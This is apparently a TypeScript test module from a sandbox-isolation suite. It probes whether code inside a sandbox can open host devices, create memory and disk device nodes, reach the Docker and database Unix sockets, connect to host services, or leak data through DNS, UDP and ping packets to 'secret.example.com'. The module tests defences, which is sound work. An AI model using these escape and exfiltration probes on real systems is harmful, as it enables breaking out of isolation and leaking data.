import { randomUUID } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { accessSync, chmodSync, constants } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Json } from '@gantry/contract'
import type { Runtime, SandboxJob } from '@gantry/core/internal/runtimes/runtime'
import { type Attack, type AttackEnd, type Ground, inEveryContainer, whileRunning } from './attack.ts'
import { answers, counted, egressAttacks, hostAddresses } from './devices-egress.ts'
import { endOf, hasOwnKernel, javascript, managedBy, programAttack, python, wasmHas } from './programs.ts'

const noSockets = 'A WebAssembly instance has no sockets, and none of its imports opens one.'

/** Devices that gVisor's kernel has in every sandbox, by name and path; none of them is a device of the host. */
const ownDevices = ['fuse', 'net/tun', 'ptmx', 'tty', '/dev/fuse', '/dev/net/tun', '/dev/ptmx', '/dev/pts/ptmx']

const devices = programAttack({
  number: 46,
  title: 'create devices, or use existing ones',
  code: `
import fcntl, glob, stat, struct
# null, zero, full, random and urandom, whatever their path: a device that is covered by null is null.
harmless = {os.makedev(1, number) for number in (3, 5, 7, 8, 9)}
def is_harmless(path):
    found = os.stat(path)
    return stat.S_ISCHR(found.st_mode) and found.st_rdev in harmless
for path in glob.glob('/dev/**', recursive=True):
    try: kind = os.stat(path).st_mode
    except OSError: continue
    if is_harmless(path) or path.startswith('/dev/fd') or not (stat.S_ISCHR(kind) or stat.S_ISBLK(kind)): continue
    if path in ('/dev/stdin', '/dev/stdout', '/dev/stderr') or given == 'outside': continue
    tries(path, lambda: os.open(path, os.O_RDONLY | os.O_NONBLOCK) >= 0)
for name in ('kvm', 'mem', 'port', 'kmsg', 'fuse', 'net/tun', 'vsock', 'loop-control', 'loop0', 'vda', 'sda', 'dri/card0', 'hwrng', 'ptmx', 'tty'):
    tries(name, lambda: os.path.exists('/dev/' + name) and not is_harmless('/dev/' + name))
for name, kind, number in (('memory', stat.S_IFCHR, (1, 1)), ('disk', stat.S_IFBLK, (254, 0)), ('zero', stat.S_IFCHR, (1, 5))):
    tries('made ' + name, lambda: os.mknod('made-' + name, 0o600 | kind, os.makedev(*number)) is None)
tries('opened', lambda: os.read(os.open('made-zero', os.O_RDONLY), 1) == b'\\0')
tries('interface', lambda: given != 'outside' and fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, struct.pack('16sH22x', b'tun0', 1)) is not None)
return managed`,
  given: (_, place) => place,
  shown: ['ptmx', 'made memory', 'made disk', 'opened'],
  excuse(managed, ground) {
    if (!hasOwnKernel(ground) || managed.some((name) => !ownDevices.includes(name))) return undefined
    return {
      explained:
        "gVisor's own kernel has terminals, tun and fuse for every sandbox and no option to leave them out. No device of the " +
        'host is there; without capabilities no interface can be made, and nothing mounted.',
    }
  },
  explained: { wasm: wasmHas.noDevices },
})

const connecting = `
import socket
for family, address in given:
    one = socket.socket(socket.AF_UNIX if family == 'unix' else socket.AF_INET6 if ':' in address[0] else socket.AF_INET)
    one.settimeout(2)
    def reached():
        one.connect(address if isinstance(address, str) else tuple(address))
        return True
    tries(str(address), reached)
return managed`

function isWritable(folder: string): boolean {
  try {
    accessSync(folder, constants.W_OK)
    return true
  } catch {
    return false
  }
}

const socketPlaces = (folder: string): string[] =>
  [folder, '/run', tmpdir()].filter(isWritable).map((place) => join(place, `gantry-${randomUUID()}.sock`))

const pathSockets: Attack = {
  number: 47,
  title: 'Unix sockets of Docker, databases and other services',
  attempt: (ground) => byPath(ground, ground.inside, 'any'),
  control: (ground) => byPath(ground, ground.outside, 'all'),
  explained: { wasm: noSockets },
}

/** Connects to listeners in several folders, and to those of known services. */
async function byPath({ folder }: Ground, run: Ground['inside'], wanted: 'any' | 'all'): Promise<AttackEnd> {
  chmodSync(folder, 0o755)
  const known = [
    '/var/run/docker.sock',
    '/run/containerd/containerd.sock',
    '/var/run/postgresql/.s.PGSQL.5432',
    '/run/redis/redis.sock',
  ]
  const reached: boolean[] = []
  for (const path of socketPlaces(folder)) {
    const targets = [...(wanted === 'any' ? known : []), path, `/proc/1/root${path}`].map((one) => ['unix', one])
    let managed: readonly string[] = []
    const count = await counted({ path }, async () => {
      managed = managedBy(await run(python(connecting, targets)))
    })
    reached.push(count > 0 || managed.length > 0)
  }
  return endOf(wanted === 'any' ? reached.includes(true) : !reached.includes(false))
}

const abstractSockets: Attack = {
  number: 48,
  title: 'an abstract Unix socket',
  attempt: ({ inside }) => byName(inside),
  control: ({ outside }) => byName(outside),
  explained: { wasm: noSockets },
}

async function byName(run: Ground['inside']): Promise<AttackEnd> {
  const path = `\0gantry-${randomUUID()}`
  return endOf((await counted({ path }, async () => managedBy(await run(python(connecting, [['unix', path]]))))) > 0)
}

/** By every way that JavaScript could have. */
const fetching = `
const tried = []
for (const url of given) {
  try { tried.push(await (await fetch(url)).text()) } catch {}
  try { const { get } = await import('node:http'); await new Promise((done) => get(url, done).on('error', done)) } catch {}
  try { const { connect } = await import('net'); await new Promise((done) => connect(new URL(url).port, '127.0.0.1', done).on('error', done)) } catch {}
}
return []`

const fetchingPython = `
import urllib.request
for url in given:
    try: urllib.request.urlopen(url, timeout=2)
    except Exception: pass
    try:
        import js
        await js.fetch(url)
    except Exception: pass
    try:
        from pyodide.http import open_url
        open_url(url)
    except Exception: pass
return managed`

const loopback: Attack = {
  number: 49,
  title: 'services of the host on loopback and its other addresses',
  attempt: (ground) => toHost(ground, ground.inside),
  control: (ground) => toHost(ground, ground.outside),
}

async function toHost({ kind }: Ground, run: Ground['inside']): Promise<AttackEnd> {
  const count = await counted({ host: '0.0.0.0', port: 0 }, async (port) => {
    const addresses = [...hostAddresses().slice(0, 3), '0.0.0.0']
    const urls = addresses.map((address) => `http://${address}:${port}/`)
    const sockets = addresses.map((address): Json => ['inet', [address, port]])
    const jobs: readonly SandboxJob[] =
      kind === 'wasm' ? [javascript(fetching, urls), python(fetchingPython, urls)] : [python(connecting, sockets)]
    for (const job of jobs) managedBy(await run(job))
  })
  return endOf(count > 0)
}

const datagrams = `
import socket
query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x01\\0\\x01'
for address, port in given:
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (address, port))
    except OSError: pass
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        def ping():
            one = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
            one.settimeout(1)
            one.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', (address, 0))
            return bool(one.recv(100))
        tries(f'ping {address}', ping)
def resolved():
    return bool(socket.getaddrinfo('secret.example.com', 80))
tries('name', resolved)
return managed`

const nameTunnel: Attack = {
  number: 50,
  title: 'exfiltrate data in DNS names, datagrams and pings',
  attempt: async ({ inside, kind, note }) => {
    const { count, managed } = await queriesOf(inside, kind)
    if (managed.length > 0) note(`inside it managed ${managed.join(', ')}`)
    return endOf(count > 0 || managed.length > 0)
  },
  control: async ({ outside }) => endOf((await queriesOf(outside, '')).count > 0),
}

/** The queries that a name server of the host receives while a program runs. */
async function queriesOf(run: Ground['inside'], kind: string): Promise<{ count: number; managed: readonly string[] }> {
  let count = 0
  const server = createSocket('udp4', () => {
    count += 1
  })
  await new Promise<void>((resolve) => server.bind(0, '0.0.0.0', resolve))
  const { port } = server.address()
  try {
    const outcome = await run(
      python(
        kind === 'wasm' ? datagrams.replace('IPPROTO_ICMP', 'SOCK_RAW') : datagrams,
        hostAddresses().map((address): Json => [address, port]),
      ),
    )
    await new Promise((resolve) => setImmediate(resolve))
    return { count, managed: managedBy(outcome) }
  } finally {
    await new Promise<void>((resolve) => server.close(resolve))
  }
}

const serving = `
import socket
one = socket.socket()
one.bind(('0.0.0.0', 0))
one.listen()
print(one.getsockname()[1], flush=True)
one.settimeout(10)
one.accept()`

const servesOutside: Attack = {
  number: 53,
  title: 'connect from outside to a port that a program listens on',
  attempt: ({ runtime }) => reachable(runtime),
  control: ({ unguarded }) => reachable(unguarded),
  explained: { wasm: noSockets },
}

function reachable(runtime: Runtime): Promise<AttackEnd> {
  return whileRunning(runtime, python(serving), async (port) => {
    const reached = await Promise.all(hostAddresses().map((host) => answers(host, Number(port))))
    return endOf(reached.includes(true))
  })
}

const noBridge =
  'A sandbox has a network namespace with a loopback of its own and nothing else: there is no bridge and no neighbour.'

const sharedBridge: Attack = {
  number: 54,
  title: 'ARP and neighbour attacks on a shared bridge',
  attempt: () => Promise.reject(new Error('There is no bridge to try it on.')),
  control: 'there is no bridge here',
  explained: {
    ...inEveryContainer(noBridge),
    process: noBridge,
    remote: noBridge,
    temporal: noBridge,
    wasm: noSockets,
  },
}

/** 46–54: devices, sockets and the network. */
export const deviceAndSocketAttacks: readonly Attack[] = [
  ...[devices, pathSockets, abstractSockets, loopback, nameTunnel, ...egressAttacks, servesOutside, sharedBridge],
]
